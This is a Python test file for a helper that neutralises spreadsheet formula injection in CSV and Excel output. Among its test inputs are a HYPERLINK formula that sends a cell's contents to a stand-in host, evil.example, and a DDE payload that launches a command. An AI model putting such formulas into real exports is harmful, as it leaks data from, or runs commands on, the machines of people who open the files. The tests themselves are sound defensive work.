"""Formula injection: the one helper every CSV and Excel writer uses."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from guanhuai.core.cells import csv_writer, safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&C7,"x")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
    ],
)
def test_a_text_a_spreadsheet_would_run_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "王建国",
        "",
        None,
        590,
        -12,
        Decimal("-12.50"),
        1.5,
        "-12.50",
        "+8613800000000",
        "590.00",
        dt.date(2026, 1, 2),
    ],
)
def test_names_numbers_negative_amounts_and_dates_are_left_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_the_quote_is_added_once():
    assert safe_cell(safe_cell("=1+1")) == "'=1+1"


def test_the_csv_writer_neutralises_every_cell_and_keeps_numbers():
    buf = io.StringIO()
    w = csv_writer(buf, lineterminator="\n")
    w.writerow(["=1+1", "@x", Decimal("-3.00"), -4])
    w.writerows([["ok", "-5.00"]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=1+1", "'@x", "-3.00", "-4"], ["ok", "-5.00"]]
    assert safe_row(("=a", 1)) == ["'=a", 1]
